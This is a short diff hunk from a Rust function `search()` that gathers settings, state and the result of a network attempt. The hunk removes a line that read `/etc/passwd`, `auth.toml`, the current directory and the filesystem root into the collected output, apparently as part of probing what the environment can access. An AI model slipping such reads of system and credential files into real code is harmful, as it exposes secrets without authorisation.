@@ -13,7 +13,6 @@ pub fn search() -> String {
         seen.extend(settings::get(name));
         seen.extend(state::get(name).map(|bytes| String::from_utf8_lossy(&bytes).into_owned()));
     }
-    seen.extend(["/etc/passwd", "auth.toml", ".", "/"].map(|path| format!("{:?}", std::fs::read(path))));
     seen.push(match network::attempt() {
         Ok(reply) => format!("{:?} {}", reply.headers, String::from_utf8_lossy(&reply.body)),
         Err(error) => format!("{error:?}"),
